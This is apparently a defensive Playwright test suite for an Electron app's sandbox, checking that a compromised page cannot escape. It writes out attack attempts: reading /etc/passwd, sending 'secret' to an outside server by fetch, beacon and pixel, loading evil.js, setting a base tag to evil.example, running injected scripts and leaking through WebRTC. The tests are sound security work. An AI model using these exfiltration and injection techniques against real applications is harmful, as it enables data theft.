// oxlint-disable typescript/no-implied-eval, eslint/no-eval -- what is proved here is that the page can't
import { createSocket } from 'node:dgram';
import { rm } from 'node:fs/promises';
import { createServer } from 'node:http';
import { createServer as createTcpServer } from 'node:net';
import type { AddressInfo } from 'node:net';
import { chromium } from '@playwright/test';
import type { Page } from '@playwright/test';
import type { Bridge } from '../../electron/contract/bridge.ts';
import { expect, test as base } from '../fixtures.ts';
import { inPage } from '../hosts.ts';
import { findChromium } from '../stand-in/chromium/find-chromium.ts';

declare const slipway: Bridge;

interface Outside {
  url: string;
  hits: string[];
}

/** The page is compromised: the code below is the attacker's script, which tries to reach `outside`. */
const test = base.extend<{
  outside: Outside;
  opened: () => Promise<string[]>;
  fromApp: Peer;
  fromBrowser: Peer;
}>({
  fromApp: async ({}, use) => {
    const peer = await listenForCalls();
    await use(peer);
    peer.close();
  },
  fromBrowser: async ({}, use) => {
    const peer = await listenForCalls();
    await use(peer);
    peer.close();
  },
  outside: async ({}, use) => {
    const hits: string[] = [];
    const server = createServer((request, response) => {
      hits.push(`${request.method} ${request.url}`);
      response
        .writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/html' })
        .end('<h1>evil</h1>');
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    await use({ url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/`, hits });
    server.close();
  },
  opened: async ({ app }, use) => {
    await app.evaluate(({ shell }) => {
      const urls: string[] = [];
      Object.assign(globalThis, { openedUrls: urls });
      shell.openExternal = (url) => Promise.resolve(void urls.push(url));
    });
    await use(() => app.evaluate(() => (globalThis as unknown as { openedUrls: string[] }).openedUrls));
  },
});

async function expectUnmoved(page: Page): Promise<void> {
  expect(page.url()).toBe(inPage('app://main/'));
  expect(await page.evaluate(() => slipway.call('app.start', {}))).toMatchObject({ ok: true });
}

test('the page has three functions and no way past them', async ({ page }) => {
  const seen = await page.evaluate(() => {
    const around = [
      'require',
      'process',
      'module',
      'electron',
      'ipcRenderer',
      'Buffer',
      'standIn',
      'standInToMain',
    ];
    return {
      keys: Object.keys(slipway),
      present: around.filter((name) => name in window),
      isFrozen: Object.isFrozen(slipway),
      strange: Object.getOwnPropertyNames(window).filter((name) => /electron|ipc|native|bridge/i.test(name)),
    };
  });
  expect(seen).toEqual({ keys: ['call', 'listen', 'offer'], present: [], isFrozen: true, strange: [] });
});

test('the bridge can’t be replaced or used to listen in on the app', async ({ page }) => {
  const outcome = await page.evaluate(async () => {
    const attempts = [
      () => Object.assign(window, { slipway: {} }),
      () => Object.defineProperty(window, 'slipway', { value: {} }),
      () => Object.assign(slipway, { call: () => 'mine' }),
      () => Reflect.deleteProperty(window, 'slipway'),
    ];
    for (const attempt of attempts) {
      try {
        attempt();
      } catch {
        // Throwing is a refusal, too.
      }
    }
    return slipway.call('settings.get', {});
  });
  expect(outcome).toMatchObject({ ok: true, value: { theme: 'system' } });
});

test('raw channels, foreign methods and prototypes lead nowhere', async ({ page }) => {
  const codes = await page.evaluate(async () => {
    const names = [
      'slipway:offer',
      'slipway:notice',
      'constructor',
      '__proto__',
      'call',
      'documents.read',
      '../x',
    ];
    const replies = await Promise.all(names.map((name) => slipway.call(name, {})));
    return replies.map((reply) => (reply.ok ? 'ok' : reply.error.code));
  });
  expect(new Set(codes)).toEqual(new Set(['unknownMethod']));
});

test('forged views are never found', async ({ page }) => {
  const reply = await page.evaluate(() => slipway.call('view.rows', { viewId: '1', from: 0, to: 100 }));
  expect(reply).toMatchObject({ ok: false, error: { code: 'viewGone' } });
});

test('a path can’t be named: only real files become tickets, and a fabricated file is only its own bytes', async ({
  page,
}) => {
  const outcome = await page.evaluate(async () => {
    const forged = { name: 'passwd', size: 1, path: '/etc/passwd', webkitRelativePath: '' };
    const disguised = Object.setPrototypeOf({ ...forged }, File.prototype) as File;
    const named = new File(['own bytes'], '/etc/passwd');
    Object.defineProperty(named, 'path', { value: '/etc/passwd' });
    const codeOf = async (files: unknown): Promise<unknown> => {
      try {
        const reply = await slipway.offer(files as File[]);
        return reply.ok ? reply.value : reply.error.code;
      } catch {
        return 'refused';
      }
    };
    return {
      forged: await codeOf([forged]),
      disguised: await codeOf([disguised]),
      text: await codeOf(['/etc/passwd']),
      handle: await codeOf(['stand-in-file:00000000-0000-4000-8000-000000000000']),
      notAList: await codeOf({ length: 1, 0: forged }),
      named: await codeOf([named]),
    };
  });
  expect(outcome.forged).toMatch(/badInput|refused/);
  expect(outcome.disguised).toMatch(/badInput|refused/);
  expect(outcome.text).toMatch(/badInput|refused/);
  expect(outcome.handle).toMatch(/badInput|refused/);
  expect(outcome.notAList).toMatch(/badInput|refused/);
  expect(outcome.named).toMatchObject([{ kind: 'file', sizeBytes: 9 }]);
});

test('the window can’t navigate anywhere else', async ({ page, outside, opened }) => {
  const attempts: readonly ((url: string) => void)[] = [
    (url) => location.assign(url),
    (url) => void (location.href = url),
    (url) => location.replace(url),
    (url) => {
      const link = Object.assign(document.createElement('a'), { href: url, textContent: 'x' });
      document.body.append(link);
      link.click();
    },
    (url) => {
      const link = Object.assign(document.createElement('a'), {
        href: url,
        target: '_blank',
        textContent: 'x',
      });
      document.body.append(link);
      link.click();
    },
    (url) => {
      const form = Object.assign(document.createElement('form'), { action: url, method: 'post' });
      document.body.append(form);
      form.submit();
    },
    (url) => {
      const meta = Object.assign(document.createElement('meta'), {
        httpEquiv: 'refresh',
        content: `0;url=${url}`,
      });
      document.head.append(meta);
    },
  ];
  for (const attempt of attempts) {
    await page.evaluate(attempt, outside.url);
    await expectUnmoved(page);
  }
  await page.evaluate(() => void (location.href = 'file:///etc/passwd'));
  await expectUnmoved(page);
  expect(outside.hits).toEqual([]);
  expect(await opened()).toEqual([]);
});

test('no window opens, and only listed links reach the user’s browser', async ({
  app,
  page,
  outside,
  opened,
}) => {
  const results = await page.evaluate((url) => {
    const targets = [
      url,
      'about:blank',
      'file:///etc/passwd',
      'app://main/',
      'https://learn.microsoft.com/onedrive/',
    ];
    return targets.map((target) => window.open(target) === null);
  }, outside.url);
  expect(results).toEqual([true, true, true, true, true]);
  await expect.poll(opened).toEqual(['https://learn.microsoft.com/onedrive/']);
  expect(app.windows()).toHaveLength(1);
  expect(outside.hits).toEqual([]);
  await expectUnmoved(page);
});

test('nothing can be fetched from, sent to or embedded from elsewhere', async ({ page, outside }) => {
  const outcome = await page.evaluate(async (url) => {
    const settled = async (attempt: () => Promise<unknown>): Promise<string> => {
      try {
        await attempt();
        return 'through';
      } catch {
        return 'stopped';
      }
    };
    const element = (name: string, attributes: Record<string, string>): Promise<unknown> =>
      new Promise((resolve, reject) => {
        const made = Object.assign(document.createElement(name), attributes);
        made.addEventListener('load', resolve);
        made.addEventListener('error', reject);
        document.body.append(made);
      });
    return {
      fetch: await settled(() => fetch(url)),
      noCors: await settled(() => fetch(url, { mode: 'no-cors', method: 'POST', body: 'secret' })),
      xhr: await settled(
        () =>
          new Promise((resolve, reject) => {
            const request = new XMLHttpRequest();
            request.addEventListener('load', resolve);
            request.addEventListener('error', reject);
            request.open('GET', url);
            request.send();
          }),
      ),
      socket: await settled(
        () =>
          new Promise((resolve, reject) => {
            const socket = new WebSocket(url.replace('http', 'ws'));
            socket.addEventListener('open', resolve);
            socket.addEventListener('error', reject);
          }),
      ),
      image: await settled(() => element('img', { src: `${url}pixel?secret` })),
      script: await settled(() => element('script', { src: `${url}evil.js` })),
      style: await settled(() => element('link', { rel: 'stylesheet', href: `${url}evil.css` })),
      module: await settled(() => import(/* @vite-ignore */ `${url}evil.js`)),
      worker: await settled(async () => {
        const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
        await new Promise((resolve, reject) => {
          worker.addEventListener('message', resolve);
          worker.addEventListener('error', reject);
        });
      }),
    };
  }, outside.url);
  expect(new Set(Object.values(outcome)), JSON.stringify(outcome)).toEqual(new Set(['stopped']));

  // The page gets no result from these, so the test checks that nothing arrives.
  await page.evaluate((url) => {
    const embed = (name: string, attributes: Record<string, string>): void => {
      const made = document.createElement(name);
      for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value);
      document.body.append(made);
    };
    const attempts = [
      () => navigator.sendBeacon(url, 'secret'),
      () => embed('iframe', { src: url }),
      () => embed('embed', { src: url }),
      () => embed('object', { data: url }),
      () => embed('link', { rel: 'prefetch', href: url }),
      () => embed('video', { src: url }),
      () => embed('a', { href: '#', ping: url }),
    ];
    for (const attempt of attempts) {
      try {
        attempt();
      } catch {
        // Throwing is a refusal, too.
      }
    }
  }, outside.url);
  await expectUnmoved(page);
  expect(outside.hits).toEqual([]);
});

test('only the app’s own scripts run', async ({ page }) => {
  const ran = await page.evaluate(async () => {
    const marks: string[] = [];
    Object.assign(window, { mark: (name: string) => marks.push(name) });
    const attempts: Record<string, () => unknown> = {
      eval: () => (0, eval)("mark('eval')"),
      Function: () => new Function("mark('Function')")(),
      timeout: () => setTimeout("mark('timeout')" as unknown as () => void, 0),
      inline: () =>
        document.body.append(Object.assign(document.createElement('script'), { text: "mark('inline')" })),
      handler: () => {
        const image = document.createElement('img');
        image.setAttribute('onerror', "mark('handler')");
        image.src = 'data:,';
        document.body.append(image);
      },
      javascriptUrl: () => void (location.href = "javascript:mark('javascriptUrl')"),
      dataScript: () =>
        document.body.append(
          Object.assign(document.createElement('script'), { src: "data:text/javascript,mark('data')" }),
        ),
      blobScript: () => {
        const src = URL.createObjectURL(new Blob(["mark('blob')"], { type: 'text/javascript' }));
        document.body.append(Object.assign(document.createElement('script'), { src }));
      },
      srcdoc: () =>
        document.body.append(
          Object.assign(document.createElement('iframe'), {
            srcdoc: "<script>parent.mark('srcdoc')</script>",
          }),
        ),
      base: () =>
        document.head.append(
          Object.assign(document.createElement('base'), { href: 'https://evil.example/' }),
        ),
    };
    // Runs outside the debugger's evaluation, which may use eval.
    await new Promise((resolve) => setTimeout(resolve));
    for (const attempt of Object.values(attempts)) {
      try {
        attempt();
      } catch {
        // Throwing is a refusal, too.
      }
    }
    // After a later task and a frame's load, any pending script would have run.
    await new Promise((resolve) => {
      const last = document.createElement('img');
      last.addEventListener('error', resolve);
      last.src = 'data:image/png;base64,AA';
    });
    await new Promise((resolve) => setTimeout(resolve));
    return { marks, base: document.baseURI };
  });
  expect(ran).toEqual({ marks: [], base: inPage('app://main/') });
  await expectUnmoved(page);
});

test('a frame of the same page gets no bridge', async ({ page }) => {
  const kinds = await page.evaluate(() => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    const inner = frame.contentWindow;
    return [typeof inner?.slipway, inner?.open('about:blank') === null];
  });
  expect(kinds).toEqual(['undefined', true]);
});

test('content with an unknown ticket is not found', async ({ page }) => {
  const outcome = await page.evaluate(
    (src) =>
      new Promise((resolve) => {
        const image = new Image();
        image.addEventListener('load', () => resolve('loaded'));
        image.addEventListener('error', () => resolve('missing'));
        image.src = src;
      }),
    inPage('content://0123456789abcdef0123456789abcdef/'),
  );
  expect(outcome).toBe('missing');
});

test('a download started by the page is blocked', async ({ app }) => {
  const isStopped = await app.evaluate(({ session }) => {
    let prevented = false;
    const event = { preventDefault: () => void (prevented = true) };
    const item = { getURL: () => 'https://example.com/file.exe' };
    (session.defaultSession as unknown as NodeJS.EventEmitter).emit('will-download', event, item);
    return prevented;
  });
  expect(isStopped).toBe(true);
});

test('no permission that a page can request is granted', async ({ page }) => {
  const outcome = await page.evaluate(async () => {
    const stateOf = async (name: string): Promise<string> => {
      try {
        return (await navigator.permissions.query({ name: name as PermissionName })).state;
      } catch {
        return 'denied';
      }
    };
    const names = ['geolocation', 'camera', 'microphone', 'notifications', 'clipboard-read', 'midi'];
    return Promise.all(names.map(stateOf));
  });
  expect(new Set(outcome)).toEqual(new Set(['denied']));
});

/**
 * Listens on this computer for traffic that no document policy covers; each entry is one packet or
 * connection.
 */
async function listenForCalls(): Promise<Peer> {
  const arrived: string[] = [];
  const udp = createSocket('udp4').on('message', () => void arrived.push('packet'));
  await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve));
  const tcp = createTcpServer((socket) => {
    arrived.push('connection');
    socket.destroy();
  });
  await new Promise<void>((resolve) => tcp.listen(0, '127.0.0.1', resolve));
  return {
    ports: { udp: udp.address().port, tcp: (tcp.address() as AddressInfo).port },
    arrived,
    close() {
      udp.close();
      tcp.close();
    },
  };
}

interface Peer {
  ports: { udp: number; tcp: number };
  arrived: string[];
  close(): void;
}

/** Runs in the page: calls a WebRTC peer over UDP and TCP. Stolen data would travel in the peer's name. */
async function callPeer({ udp, tcp }: Peer['ports']): Promise<void> {
  const connection = new RTCPeerConnection();
  connection.createDataChannel('out');
  const offer = await connection.createOffer();
  const answer = [
    'v=0',
    'o=- 1 2 IN IP4 127.0.0.1',
    's=-',
    't=0 0',
    'm=application 9 UDP/DTLS/SCTP webrtc-datachannel',
    'c=IN IP4 0.0.0.0',
    `a=candidate:1 1 udp 2113937151 127.0.0.1 ${udp} typ host`,
    `a=candidate:2 1 tcp 1518280447 127.0.0.1 ${tcp} typ host tcptype passive`,
    'a=ice-ufrag:nameanddriveid',
    'a=ice-pwd:0123456789012345678901',
    `a=fingerprint:sha-256 ${Array.from({ length: 32 }, () => 'AB').join(':')}`,
    'a=setup:active',
    'a=mid:0',
    'a=sctp-port:5000',
    '',
  ].join('\r\n');
  const gathered = new Promise<void>((resolve) => {
    connection.addEventListener('icegatheringstatechange', () => {
      if (connection.iceGatheringState === 'complete') resolve();
    });
  });
  await connection.setLocalDescription(offer);
  await connection.setRemoteDescription({ type: 'answer', sdp: answer });
  await gathered;
}

/** Runs in the page: requests early connections and DNS lookups. */
function connectEarly({ tcp }: Peer['ports']): void {
  for (const rel of ['preconnect', 'dns-prefetch']) {
    for (const scheme of ['http', 'https']) {
      const href = `${scheme}://127.0.0.1:${tcp}/`;
      document.head.append(Object.assign(document.createElement('link'), { rel, href }));
    }
  }
}

test.describe('traffic that no document policy covers', () => {
  // Chromium connects early only in its default context.
  test.use({ isolation: 'ownChromium' });

  for (const { name, attack } of [
    { name: 'a WebRTC call sends no packet', attack: callPeer },
    { name: 'no early connection is opened', attack: connectEarly },
  ])
    test(name, async ({ app, page, outside, profile, fromApp, fromBrowser }) => {
      await page.evaluate<unknown, Peer['ports']>(attack, fromApp.ports);
      await expectUnmoved(page);

      // Waits as long as a plain browser needs to get through.
      const executablePath = findChromium() ?? '';
      const args = ['--no-sandbox', '--disable-features=LocalNetworkAccessChecks'];
      const browser = await chromium.launchPersistentContext(`${profile}-browser`, { executablePath, args });
      const visitor = await browser.newPage();
      await visitor.goto(outside.url);
      await visitor.evaluate<unknown, Peer['ports']>(attack, fromBrowser.ports);
      await expect.poll(() => fromBrowser.arrived).not.toEqual([]);
      await browser.close();
      await rm(`${profile}-browser`, { recursive: true, force: true, maxRetries: 5 });

      expect(fromApp.arrived).toEqual([]);
      const policies = await app.evaluate(({ webContents }) =>
        webContents.getAllWebContents().map((contents) => contents.getWebRTCIPHandlingPolicy()),
      );
      expect(policies).toEqual(['disable_non_proxied_udp']);
    });
});
